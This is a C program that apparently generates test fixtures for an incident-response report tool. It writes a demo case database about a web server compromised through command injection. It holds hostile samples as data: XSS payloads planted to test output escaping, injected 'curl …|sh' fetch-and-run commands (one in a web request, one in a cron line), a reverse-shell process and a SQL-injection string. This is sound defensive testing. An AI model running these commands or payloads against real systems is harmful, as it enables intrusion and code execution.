/* report_fixture DIR [--hostile] [--events N] [--no-analysis]
 *
 * Writes DIR/case.db: the demo's story (a web server compromised through a command injection)
 * with steps, actions, evidence, bundles, the evidence tables rules point at, detections, a
 * timeline and a narrative. --hostile plants script and markup in every text field the report
 * shows and writes DIR/planted.json (what was planted, and the text a reader must see).
 * --events N adds N synthetic timeline events (for size and speed tests).
 * --no-analysis leaves out every table except the core ones (graceful degradation). */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "case/cf_case.h"
#include "common/cf_error.h"
#include "common/cf_time.h"

/* Each payload would change document.title to "PWNED-<n>" or add a data-pwned attribute if it
 * ever ran. */
static const char *const payloads[] = {
    "<script>document.title='PWNED-1';document.documentElement.setAttribute('data-pwned','1')"
    "</script>",
    "<img src=x onerror=\"document.title='PWNED-2';document.documentElement.setAttribute('data-"
    "pwned','2')\">",
    "javascript:document.title='PWNED-3'",
    "</style><script>document.title='PWNED-4'</script><style>",
    "<svg onload=\"document.title='PWNED-5'\"><script>document.title='PWNED-5b'</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='PWNED-6'\">",
    "\" onmouseover=\"document.title='PWNED-7'\" autofocus onfocus=\"document.title='PWNED-7b'\" "
    "x=\"",
    "' onfocus='document.title=\"PWNED-8\"' autofocus tabindex=1 x='",
    "<a href=\"javascript:document.title='PWNED-9'\" id=pwnlink>click me</a>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED-10'</script>\"></iframe>",
    "--><!-- ]]><script>document.title='PWNED-11'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='PWNED-12'>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='PWNED-13'\">",
    "<object data=\"javascript:document.title='PWNED-14'\"></object><embed src=x>",
    "<base href=\"javascript:/\"><link rel=stylesheet href=http://203.0.113.9/x.css>",
    "<svg><a xlink:href=\"javascript:document.title='PWNED-15'\"><text>x</text></a>"
    "<animate attributeName=href to=javascript:alert(1)></svg>",
    "<template><script>document.title='PWNED-16'</script></template><select><style></select>"
    "<img src=x onerror=document.title='PWNED-17'>",
    "[md link](javascript:alert(1)) ![img](http://203.0.113.9/t.png) <b>bold</b> | pipe | "
    "`tick` *star* _u_ # hash www.evil.example http://203.0.113.9/x",
    "&lt;script&gt;document.title='PWNED-18'&lt;/script&gt; &amp; &#60;b&#62;",
    "{{constructor.constructor('document.title=\"PWNED-19\"')()}} ${7*7} <%= 7*7 %>",
};
#define NPAYLOADS (sizeof(payloads) / sizeof(payloads[0]))

static int hostile;
static size_t next_payload;
static json_t *planted;

/* A field value: the benign text, and in hostile mode a payload appended (recorded). */
static char *val(const char *benign, const char *field)
{
    char *out;
    const char *p;
    size_t n;
    if (!hostile)
        return strdup(benign);
    p = payloads[next_payload++ % NPAYLOADS];
    n = strlen(benign) + strlen(p) + 2;
    out = malloc(n);
    if (!out)
        abort();
    snprintf(out, n, "%s %s", benign, p);
    json_array_append_new(planted, json_pack("{s:s, s:s}", "field", field, "text", out));
    return out;
}

static sqlite3 *db;

static void exec(const char *sql)
{
    char *err = NULL;
    if (sqlite3_exec(db, sql, NULL, NULL, &err) != SQLITE_OK) {
        fprintf(stderr, "report_fixture: %s\n  in: %.200s\n", err ? err : "?", sql);
        exit(1);
    }
}

/* Binds NULL for a NULL pointer, text otherwise; all parameters as text except "#" ints. */
static void insert(const char *sql, int n, ...)
{
    sqlite3_stmt *st = NULL;
    va_list ap;
    if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK) {
        fprintf(stderr, "report_fixture: %s\n  in: %s\n", sqlite3_errmsg(db), sql);
        exit(1);
    }
    va_start(ap, n);
    for (int i = 1; i <= n; i++) {
        const char *v = va_arg(ap, const char *);
        if (v)
            sqlite3_bind_text(st, i, v, -1, SQLITE_TRANSIENT);
    }
    va_end(ap);
    if (sqlite3_step(st) != SQLITE_DONE) {
        fprintf(stderr, "report_fixture: %s\n  in: %s\n", sqlite3_errmsg(db), sql);
        exit(1);
    }
    sqlite3_finalize(st);
}

#define T(hms) "2026-11-27T" hms "Z"

static void steps(cf_case *c)
{
    static const struct {
        const char *name, *status, *start, *end;
        int ms;
        const char *error;
    } s[] = {
        {"triage", "done", T("19:58:01.100000"), T("19:58:01.900000"), 800, NULL},
        {"notify", "done", T("19:58:02.000000"), T("19:58:02.400000"), 400, NULL},
        {"block_ip", "done", T("19:58:02.000000"), T("19:58:03.100000"), 1100, NULL},
        {"collect_volatile", "done", T("19:58:03.200000"), T("19:58:19.000000"), 15800, NULL},
        {"analyze_volatile", "done", T("19:58:19.100000"), T("19:58:20.300000"), 1200, NULL},
        {"isolate", "done", T("19:58:20.400000"), T("19:58:23.000000"), 2600, NULL},
        {"snapshot", "done", T("19:58:23.100000"), T("19:58:41.000000"), 17900, NULL},
        {"collect_disk", "failed", T("19:58:41.100000"), T("19:59:30.000000"), 48900,
         "SSM command timed out on the forensic worker"},
        {"analyze", "done", T("19:59:30.100000"), T("19:59:33.000000"), 2900, NULL},
        {"report", "running", T("19:59:33.100000"), NULL, 0, NULL},
    };
    for (size_t i = 0; i < sizeof(s) / sizeof(s[0]); i++) {
        char *err = s[i].error ? val(s[i].error, "steps.error") : NULL;
        char ms[32];
        snprintf(ms, sizeof(ms), "%d", s[i].ms);
        insert("INSERT INTO steps(name, status, attempts, started_at, finished_at, duration_ms, "
               "error) VALUES(?, ?, 1, ?, ?, CAST(? AS INTEGER), ?)",
               6, s[i].name, s[i].status, s[i].start, s[i].end, s[i].end ? ms : NULL, err);
        free(err);
    }
    (void)c;
}

static void actions(void)
{
    static const struct {
        const char *step, *key, *time, *call, *target, *result, *detail;
    } a[] = {
        {"notify", "ses:alert", T("19:58:02.300000"), "sesv2:SendEmail", "soc@example.com", "ok",
         "message id 0100018c-alert"},
        {"block_ip", "acl:in", T("19:58:02.600000"), "ec2:CreateNetworkAclEntry",
         "acl-0a1b2c3d4e5f60718", "ok", "rule 90 deny 203.0.113.66/32 ingress"},
        {"block_ip", "acl:out", T("19:58:02.800000"), "ec2:CreateNetworkAclEntry",
         "acl-0a1b2c3d4e5f60718", "ok", "rule 91 deny 203.0.113.66/32 egress"},
        {"block_ip", "ipl", T("19:58:03.000000"), "s3:PutObject",
         "s3://ir-ip-list/malicious-ips.jsonl", "ok", NULL},
        {"collect_volatile", "ssm:vol", T("19:58:03.500000"), "ssm:SendCommand",
         "i-0b2c3d4e5f6a7b8c9", "ok", "command 4f1c-volatile"},
        {"isolate", "sg:untrack", T("19:58:20.600000"), "ec2:CreateSecurityGroup",
         "vpc-0123456789abcdef0", "exists", "sg-0untrack"},
        {"isolate", "eni:1", T("19:58:21.000000"), "ec2:ModifyNetworkInterfaceAttribute",
         "eni-0c3d4e5f6a7b8c9d0", "ok", "groups sg-0isolate"},
        {"isolate", "tg", T("19:58:21.800000"), "elbv2:DeregisterTargets",
         "targetgroup/web/73e2d6bc24d8a067", "ok", NULL},
        {"isolate", "asg", T("19:58:22.300000"), "autoscaling:EnterStandby", "web-asg", "error",
         "ValidationError: instance not in service"},
        {"snapshot", "snap:1", T("19:58:23.500000"), "ec2:CreateSnapshot", "vol-0d4e5f6a7b8c9d0e1",
         "ok", "snap-0e5f6a7b8c9d0e1f2"},
    };
    for (size_t i = 0; i < sizeof(a) / sizeof(a[0]); i++) {
        char *target = val(a[i].target, "actions.target");
        char *detail = a[i].detail ? val(a[i].detail, "actions.detail") : NULL;
        insert("INSERT INTO actions(step, idem_key, time, call, target, request_id, result, "
               "detail) VALUES(?, ?, ?, ?, ?, 'req-' || ?, ?, ?)",
               8, a[i].step, a[i].key, a[i].time, a[i].call, target, a[i].key, a[i].result, detail);
        free(target);
        free(detail);
    }
}

static void evidence(void)
{
    static const struct {
        const char *bundle, *kind, *path, *sha, *bytes, *verified;
    } e[] = {
        {"volatile", "volatile", "processes.jsonl",
         "9f2c4e1b7a3d5f60819b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5", "18234", "1"},
        {"volatile", "volatile", "sockets.jsonl",
         "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809", "5120", "1"},
        {"disk", "disk", "files.jsonl",
         "2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a", "912345", "1"},
        {"disk", "disk", "artifacts/var/log/nginx/access.log",
         "3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b", "40960", "0"},
        {"disk", "disk", "artifacts/var/www/html/uploads/.cache.php",
         "4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c", "2211", NULL},
    };
    for (size_t i = 0; i < sizeof(e) / sizeof(e[0]); i++) {
        char *path = val(e[i].path, "evidence.path");
        char uri[512];
        snprintf(uri, sizeof(uri),
                 "s3://ir-evidence/cases/cf-20261127-7f3a/i-0b2c3d4e5f6a7b8c9/%s/bundle.tar",
                 e[i].kind);
        insert("INSERT INTO evidence(bundle, kind, path, sha256, bytes, s3_uri, verified) "
               "VALUES(?, ?, ?, ?, CAST(? AS INTEGER), ?, CAST(? AS INTEGER))",
               7, e[i].bundle, e[i].kind, path, e[i].sha, e[i].bytes, uri, e[i].verified);
        free(path);
    }
    insert("INSERT INTO bundles(kind, case_id, instance_id, path, manifest_sha256, loaded_at) "
           "VALUES('volatile', 'cf-20261127-7f3a', 'i-0b2c3d4e5f6a7b8c9', ?, "
           "'5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d', ?)",
           2, "s3://ir-evidence/cases/cf-20261127-7f3a/i-0b2c3d4e5f6a7b8c9/volatile/bundle.tar",
           T("19:58:19.200000"));
}

static void analysis(void)
{
    char *s1, *s2, *s3, *s4, *s5, *s6;
    exec("CREATE TABLE IF NOT EXISTS web_requests(id INTEGER PRIMARY KEY, bundle_id INTEGER, "
         "source TEXT, time TEXT, client_ip TEXT, method TEXT, uri TEXT, status INTEGER, "
         "user_agent TEXT);"
         "CREATE TABLE IF NOT EXISTS processes(bundle_id INTEGER, pid, ppid, name, cmdline, exe, "
         "exe_deleted, user, start_time, fd0);"
         "CREATE TABLE IF NOT EXISTS files(bundle_id INTEGER, path, name, size, mtime, sha256, "
         "deleted, yara);"
         "CREATE TABLE IF NOT EXISTS cron_entries(id INTEGER PRIMARY KEY, bundle_id INTEGER, "
         "source TEXT, line INTEGER, user TEXT, schedule TEXT, command TEXT, mtime TEXT);"
         "CREATE TABLE IF NOT EXISTS narrative(id INTEGER PRIMARY KEY, seq INTEGER, phase TEXT, "
         "time TEXT, title TEXT, summary TEXT, detection_id INTEGER, rule_id TEXT, evidence "
         "TEXT);"
         "CREATE TABLE IF NOT EXISTS rule_runs(rule_id TEXT PRIMARY KEY, title TEXT, status "
         "TEXT, error TEXT);"
         "CREATE TABLE IF NOT EXISTS load_errors(id INTEGER PRIMARY KEY, bundle_id INTEGER, "
         "source TEXT, line INTEGER, error TEXT, text TEXT);");
    /* evidence rows */
    s1 = val("/index.php?host=127.0.0.1;curl${IFS}http://203.0.113.66/x|sh", "web.uri");
    s2 = val("Mozilla/5.0 (X11; Linux x86_64) curl/8.4", "web.user_agent");
    insert("INSERT INTO web_requests(id, bundle_id, source, time, client_ip, method, uri, status, "
           "user_agent) VALUES(1, 2, '/var/log/nginx/access.log', ?, '203.0.113.66', 'GET', ?, "
           "200, ?)",
           3, T("19:41:07.000000"), s1, s2);
    insert("INSERT INTO web_requests(id, bundle_id, source, time, client_ip, method, uri, status, "
           "user_agent) VALUES(2, 2, '/var/log/nginx/access.log', ?, '203.0.113.66', 'POST', "
           "'/uploads/.cache.php', 200, ?)",
           2, T("19:44:52.000000"), s2);
    free(s1);
    free(s2);
    s3 = val("bash -i", "processes.cmdline");
    s4 = val("/dev/shm/.x/kworkerd", "processes.exe");
    insert("INSERT INTO processes(bundle_id, pid, ppid, name, cmdline, exe, exe_deleted, user, "
           "start_time, fd0) VALUES(1, 4242, 4100, 'bash', ?, '/usr/bin/bash', 0, 'www-data', ?, "
           "'socket:[88231]')",
           2, s3, T("19:45:10.000000"));
    insert("INSERT INTO processes(bundle_id, pid, ppid, name, cmdline, exe, exe_deleted, user, "
           "start_time) VALUES(1, 4311, 1, 'kworkerd', '[\"/dev/shm/.x/kworkerd\",\"-o\","
           "\"pool.example:3333\"]', ?, 1, 'www-data', ?)",
           2, s4, T("19:47:30.000000"));
    free(s3);
    free(s4);
    s5 = val("/var/www/html/uploads/.cache.php", "files.path");
    s6 = val("/tmp/.d", "files.path");
    insert("INSERT INTO files(bundle_id, path, name, size, mtime, sha256, deleted, yara) "
           "VALUES(2, ?, '.cache.php', 2211, ?, "
           "'4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c', 0, "
           "'[\"php_webshell\"]')",
           2, s5, T("19:44:40.000000"));
    insert("INSERT INTO files(bundle_id, path, name, size, mtime, deleted) VALUES(2, ?, '.d', "
           "81920, ?, 1)",
           2, s6, T("19:46:02.000000"));
    free(s5);
    free(s6);
    s1 = val("curl -s http://203.0.113.66/k|sh", "cron.command");
    insert("INSERT INTO cron_entries(id, bundle_id, source, line, user, schedule, command, "
           "mtime) VALUES(1, 2, '/var/spool/cron/crontabs/www-data', 1, 'www-data', "
           "'*/5 * * * *', ?, ?)",
           2, s1, T("19:48:00.000000"));
    free(s1);
    /* detections */
    {
        static const struct {
            const char *rule, *title, *sev, *attack, *time, *entity, *ev;
        } d[] = {
            {"web.command_injection", "Command injection in a web request", "high",
             "T1190, T1059.004", T("19:41:07.000000"),
             "{\"client_ip\":\"203.0.113.66\",\"uri\":\"/index.php?host=127.0.0.1;curl\"}",
             "[\"web_requests:1\"]"},
            {"disk.webshell", "PHP web shell in the web root", "critical", "T1505.003",
             T("19:44:40.000000"),
             "{\"path\":\"/var/www/html/uploads/.cache.php\",\"yara\":[\"php_webshell\"]}",
             "[\"files:1\", \"web_requests:2\"]"},
            {"proc.shell_stdin_socket", "Shell whose standard input is a network socket", "high",
             "T1059.004", T("19:45:10.000000"), "{\"pid\":4242,\"fd0\":\"socket:[88231]\"}",
             "[\"processes:1\"]"},
            {"proc.deleted_exe_shm", "Process running from /dev/shm with a deleted binary", "high",
             "T1496", T("19:47:30.000000"), "{\"pid\":4311,\"exe\":\"/dev/shm/.x/kworkerd\"}",
             "[\"processes:2\"]"},
            {"disk.deleted_dropper", "Deleted file in /tmp (dropper)", "medium", "T1070.004",
             T("19:46:02.000000"), "{\"path\":\"/tmp/.d\"}", "[\"files:2\", \"nosuch:9\"]"},
            {"persist.cron_download", "Cron entry that downloads and runs code", "medium",
             "T1053.003", T("19:48:00.000000"), "{\"user\":\"www-data\"}",
             "[\"cron_entries:1\", \"not a ref\", \"x;DROP TABLE steps:1\"]"},
            {"info.scanner", "Scanner user agent", "low", "nonsense", NULL, "\"not an object\"",
             "not json"},
        };
        for (size_t i = 0; i < sizeof(d) / sizeof(d[0]); i++) {
            char *title = val(d[i].title, "detections.title");
            const char *entity = d[i].entity;
            char *ent = NULL;
            if (hostile && entity[0] == '{') {
                /* plant a payload as an extra entity value */
                json_t *e = json_loads(entity, 0, NULL);
                char *pv = val("entity value", "detections.entity");
                json_object_set_new(e, "planted", json_string(pv));
                ent = json_dumps(e, JSON_COMPACT);
                json_decref(e);
                free(pv);
                entity = ent;
            }
            insert("INSERT INTO detections(rule_id, title, severity, attack, time, entity, "
                   "evidence) VALUES(?, ?, ?, ?, ?, ?, ?)",
                   7, d[i].rule, title, d[i].sev, d[i].attack, d[i].time, entity, d[i].ev);
            free(title);
            free(ent);
        }
    }
    /* timeline (as the analysis builds it) */
    exec("INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT time, "
         "'web', 'web_request', client_ip || ' ' || method || ' ' || uri || ' ' || status, "
         "'web_requests', id FROM web_requests;"
         "INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT "
         "start_time, 'processes', 'process_start', 'pid ' || pid || ' ' || name || ' ' || exe, "
         "'processes', rowid FROM processes;"
         "INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT mtime, "
         "'files', 'file_modified', path, 'files', rowid FROM files;"
         "INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT mtime, "
         "'cron', 'cron_entry', command, 'cron_entries', id FROM cron_entries;"
         "INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT time, "
         "'casefile', 'action', step || ': ' || call || ' ' || target || ' -> ' || result, "
         "'actions', id FROM actions;"
         "INSERT INTO timeline(time, source, kind, summary, ref_table, ref_id) SELECT time, "
         "'detections', severity, rule_id || ': ' || title, 'detections', id FROM detections "
         "WHERE time IS NOT NULL;"
         "INSERT INTO narrative(seq, phase, time, title, summary, detection_id, rule_id) SELECT "
         "id, CASE rule_id WHEN 'web.command_injection' THEN 'initial_access' WHEN "
         "'disk.webshell' THEN 'persistence' ELSE 'execution' END, time, CASE rule_id WHEN "
         "'web.command_injection' THEN 'First sign of access' WHEN 'disk.webshell' THEN "
         "'Persistence' ELSE 'Execution' END, time || ' ' || title, id, rule_id FROM detections "
         "WHERE id <= 3;"
         "INSERT INTO narrative(seq, phase, title, summary) VALUES(99, 'response', 'What "
         "casefile did', 'casefile block_ip: ...');"
         "INSERT INTO rule_runs VALUES('web.command_injection', 'x', 'ok', NULL);"
         "INSERT INTO load_errors(bundle_id, source, line, error, text) VALUES(2, "
         "'/var/log/nginx/access.log', 17, 'unparsable', 'garbage');");
    s1 = val("no such column: foo", "rule_runs.error");
    insert("INSERT INTO rule_runs VALUES('broken.rule', 'Broken', 'error', ?)", 1, s1);
    free(s1);
}

static void synthetic_events(long n)
{
    sqlite3_stmt *st = NULL;
    int64_t base;
    cf_time_parse(T("17:00:00"), &base);
    exec("BEGIN");
    if (sqlite3_prepare_v2(db,
                           "INSERT INTO timeline(time, source, kind, summary) VALUES(?, ?, ?, ?)",
                           -1, &st, NULL) != SQLITE_OK)
        exit(1);
    for (long i = 0; i < n; i++) {
        char t[CF_TIME_STR_MAX], summary[160];
        static const char *const src[] = {"files",    "auth",       "web",    "history",
                                          "sessions", "cloudtrail", "systemd"};
        /* more activity near the attack: a bump around 19:40-19:50 */
        int64_t off = (int64_t)(i * 7919 % 10800) * CF_NS_PER_SEC;
        if (i % 3 == 0)
            off = (int64_t)(9600 + i % 600) * CF_NS_PER_SEC;
        cf_time_format(base + off, t);
        snprintf(summary, sizeof(summary), "/var/lib/app/cache/%ld.tmp synthetic event %ld", i, i);
        sqlite3_reset(st);
        sqlite3_bind_text(st, 1, t, -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(st, 2, src[i % 7], -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 3, "event", -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 4, summary, -1, SQLITE_TRANSIENT);
        if (sqlite3_step(st) != SQLITE_DONE)
            exit(1);
    }
    sqlite3_finalize(st);
    exec("COMMIT");
}

int main(int argc, char **argv)
{
    cf_case *c = NULL;
    long events = 0;
    int with_analysis = 1;
    const char *dir = NULL;
    char *v;
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--hostile"))
            hostile = 1;
        else if (!strcmp(argv[i], "--no-analysis"))
            with_analysis = 0;
        else if (!strcmp(argv[i], "--events") && i + 1 < argc)
            events = strtol(argv[++i], NULL, 10);
        else
            dir = argv[i];
    }
    if (!dir) {
        fprintf(stderr, "usage: report_fixture DIR [--hostile] [--events N] [--no-analysis]\n");
        return 2;
    }
    planted = json_array();
    if (cf_case_open(&c, dir)) {
        fprintf(stderr, "report_fixture: %s\n", cf_error_last()->msg);
        return 1;
    }
    db = cf_case_db(c);
    exec("BEGIN");
    v = val("cf-20261127-7f3a", "case_info.case_id");
    cf_case_info_set(c, "case_id", v);
    free(v);
    {
        json_t *ev =
            json_pack("{s:s, s:s, s:{s:s, s:s, s:f, s:s, s:s, s:s, s:s, s:s, s:{s:{s:s, s:s}}, "
                      "s:{s:s, s:{s:{s:s}}}}}",
                      "detail-type", "GuardDuty Finding", "source", "aws.guardduty", "detail", "id",
                      "7ac6a5c2f1b84e3c9d0f1a2b3c4d5e6f", "type", "Backdoor:EC2/C&CActivity.B",
                      "severity", 8.0, "title",
                      "EC2 instance i-0b2c3d4e5f6a7b8c9 is communicating with a known C&C server",
                      "description",
                      "The EC2 instance is querying an IP associated with a command and control "
                      "server.",
                      "accountId", "123456789012", "region", "us-east-1", "updatedAt",
                      "2026-11-27T19:57:50.000Z", "resource", "instanceDetails", "instanceId",
                      "i-0b2c3d4e5f6a7b8c9", "availabilityZone", "us-east-1b", "service",
                      "eventFirstSeen", "2026-11-27T19:45:15.000Z", "action",
                      "networkConnectionAction", "remoteIpDetails", "ipAddressV4", "203.0.113.66");
        char *t;
        if (hostile) {
            char *p = val("EC2 instance is communicating with a C&C server", "finding.title");
            json_object_set_new(json_object_get(ev, "detail"), "title", json_string(p));
            free(p);
        }
        t = json_dumps(ev, JSON_COMPACT);
        cf_case_info_set(c, "finding", t);
        free(t);
        json_decref(ev);
    }
    v = val("203.0.113.66", "case_info.attacker_ips");
    {
        json_t *a = json_pack("[s]", v);
        char *t = json_dumps(a, JSON_COMPACT);
        cf_case_info_set(c, "attacker_ips", t);
        free(t);
        json_decref(a);
    }
    free(v);
    cf_case_info_set(c, "opened_at", T("19:58:01.100000"));
    cf_case_info_set(c, "region", "us-east-1");
    v = val("web-frontend", "case_info.custom");
    cf_case_info_set(c, "service_tag", v);
    free(v);
    steps(c);
    actions();
    evidence();
    if (with_analysis)
        analysis();
    exec("COMMIT");
    if (events > 0)
        synthetic_events(events);
    if (hostile) {
        char path[4096];
        json_t *all = json_array();
        for (size_t i = 0; i < NPAYLOADS; i++)
            json_array_append_new(all, json_string(payloads[i]));
        json_t *doc = json_pack("{s:O, s:o}", "planted", planted, "payloads", all);
        snprintf(path, sizeof(path), "%s/planted.json", dir);
        json_dump_file(doc, path, JSON_INDENT(1));
        json_decref(doc);
    }
    json_decref(planted);
    cf_case_free(c);
    return 0;
}
